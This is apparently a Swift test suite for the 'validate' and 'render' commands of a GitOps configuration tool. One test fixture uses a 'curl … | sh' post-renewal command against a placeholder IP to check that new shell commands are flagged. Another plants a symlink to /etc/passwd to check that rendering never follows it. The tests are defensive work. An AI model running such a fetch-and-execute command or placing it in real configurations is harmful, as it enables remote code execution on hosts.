import ArgumentParser
import Foundation
import PhoenixCore
import Testing

@testable import phoenix_gitops

/// `validate` end to end through the command (parsing, loading from a folder, rendering, exit status).
@Suite struct ValidateCommandTests {
    /// Writes a minimal configuration into a fresh folder; `vmIP` lets a test create a duplicate IP.
    func makeConfig(vmIP: String) throws -> URL {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("phoenix-cli-\(UUID().uuidString)")
        let files = [
            "conf/phoenix_hypervisor_config.json": "{\"roles\": {\"gateway\": 101, \"traefik\": 101, \"ca\": 101}}",
            "conf/phoenix_lxc_configs.json":
                "{\"lxc_configs\": {\"101\": {\"name\": \"gw\", \"network_config\": {\"ip\": \"10.0.0.5/24\"}}}}",
            "conf/phoenix_vm_configs.json":
                "{\"vms\": [\n  {\"vmid\": 1001, \"network_config\": {\"ip\": \"\(vmIP)\"}}\n]}",
            "conf/certificate-manifest.json": "[]",
        ]
        for (path, text) in files {
            let url = root.appendingPathComponent(path)
            try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
            try Data(text.utf8).write(to: url)
        }
        return root
    }

    @Test func cleanConfigurationSucceeds() throws {
        let root = try makeConfig(vmIP: "10.0.0.6/24")
        defer { try? FileManager.default.removeItem(at: root) }
        let (output, valid) = try ValidateCommand.report(
            source: FolderSource(root: root), layout: ConfigLayout(configPath: "conf"), format: .text, render: false)
        #expect(valid)
        #expect(String(decoding: output, as: UTF8.self) == "0 errors, 0 warnings\n")
        let command = try ValidateCommand.parse([root.path, "--config-path", "conf", "--no-render"])
        try command.run()
    }

    /// Issue #12, H2: every shell command is shown; against a base, the new or changed ones are warnings.
    @Test func commandsAreListedAndNewOnesAreWarningsAgainstABase() throws {
        let base = try makeConfig(vmIP: "10.0.0.6/24")
        let root = try makeConfig(vmIP: "10.0.0.6/24")
        defer {
            try? FileManager.default.removeItem(at: base)
            try? FileManager.default.removeItem(at: root)
        }
        try Data(
            #"[{"common_name": "a.test", "cert_path": "/quickOS/vm-persistent-data/1/a.crt", "key_path": "/quickOS/vm-persistent-data/1/a.key", "post_renewal_command": "curl -s http://203.0.113.66/x | sh"}]"#
                .utf8
        ).write(to: root.appendingPathComponent("conf/certificate-manifest.json"))
        let alone = try ValidateCommand.parse([root.path, "--config-path", "conf", "--no-render"]).execute()
        let aloneText = String(decoding: alone.stdout, as: UTF8.self)
        #expect(alone.status == 0)
        #expect(aloneText.contains("info: certificate entry 0 (a.test): post_renewal_command listed for review"), "\(aloneText)")
        let compared = try ValidateCommand.parse([root.path, "--config-path", "conf", "--no-render", "--base", base.path]).execute()
        let text = String(decoding: compared.stdout, as: UTF8.self)
        #expect(compared.status == 0)
        #expect(text.contains("conf/certificate-manifest.json:1:131: warning: certificate entry 0 (a.test): post_renewal_command new: \"curl -s http://203.0.113.66/x | sh\""), "\(text)")
        #expect(text.contains("(repository-command)") && text.hasSuffix("0 errors, 1 warning\n"))
        let same = try ValidateCommand.parse([root.path, "--config-path", "conf", "--no-render", "--base", root.path]).execute()
        #expect(String(decoding: same.stdout, as: UTF8.self) == "0 errors, 0 warnings\n")
    }

    /// Issue #12, L3: `render --path` on a checkout copies a symlink as its text, never its target.
    @Test func renderPathNeverFollowsASymlinkInTheCheckout() throws {
        let root = try makeConfig(vmIP: "10.0.0.6/24")
        defer { try? FileManager.default.removeItem(at: root) }
        let stack = root.appendingPathComponent("stacks/demo")
        try FileManager.default.createDirectory(at: stack, withIntermediateDirectories: true)
        try Data("services:\n  web:\n    image: nginx\n".utf8).write(to: stack.appendingPathComponent("docker-compose.yml"))
        try FileManager.default.createSymbolicLink(atPath: stack.appendingPathComponent("passwd").path, withDestinationPath: "/etc/passwd")
        try FileManager.default.createSymbolicLink(atPath: stack.appendingPathComponent("a").path, withDestinationPath: ".")
        let out = root.appendingPathComponent("out")
        let result = try Binary.run(
            ["render", "--path", root.path, "--config-path", "conf", "--out", out.path, "--stage", "stack-files"], in: root,
            timeout: 60)
        #expect(result.status == 0, "\(result.stderr)")
        let copied = out.appendingPathComponent("host/quickOS/portainer_stacks/demo/passwd")
        #expect(FileManager.default.contents(atPath: copied.path) == Data("/etc/passwd".utf8))
        #expect(FileManager.default.contents(atPath: out.appendingPathComponent("host/quickOS/portainer_stacks/demo/a").path) == Data(".".utf8))
    }

    @Test func errorsGiveExitStatusOneAndCompilerStyleLines() throws {
        let root = try makeConfig(vmIP: "10.0.0.5/24")
        defer { try? FileManager.default.removeItem(at: root) }
        let (output, valid) = try ValidateCommand.report(
            source: FolderSource(root: root), layout: ConfigLayout(configPath: "conf"), format: .text)
        #expect(!valid)
        let text = String(decoding: output, as: UTF8.self)
        #expect(text.hasPrefix("conf/phoenix_vm_configs.json:2:37: error: "))
        #expect(text.contains("[/vms/0/network_config/ip] (duplicate-ip)"))
        let command = try ValidateCommand.parse([root.path, "--config-path", "conf", "--format", "json"])
        #expect(throws: ExitCode(1)) { try command.run() }
    }

    @Test func jsonFormatIsTheDocumentedShape() throws {
        let root = try makeConfig(vmIP: "10.0.0.5/24")
        defer { try? FileManager.default.removeItem(at: root) }
        let (output, _) = try ValidateCommand.report(
            source: FolderSource(root: root), layout: ConfigLayout(configPath: "conf"), format: .json)
        let object = try #require(try JSONSerialization.jsonObject(with: output) as? [String: Any])
        #expect(object["valid"] as? Bool == false)
        let summary = try #require(object["summary"] as? [String: Int])
        #expect(summary == ["errors": 1, "warnings": 0, "infos": 0])
        let first = try #require((object["diagnostics"] as? [[String: Any]])?.first)
        #expect(first["code"] as? String == "duplicate-ip")
        #expect(first["pointer"] as? String == "/vms/0/network_config/ip")
        #expect(first["line"] as? Int == 2 && first["column"] as? Int == 37)
        #expect(Set(first.keys) == ["severity", "code", "file", "pointer", "line", "column", "message"])
    }
}
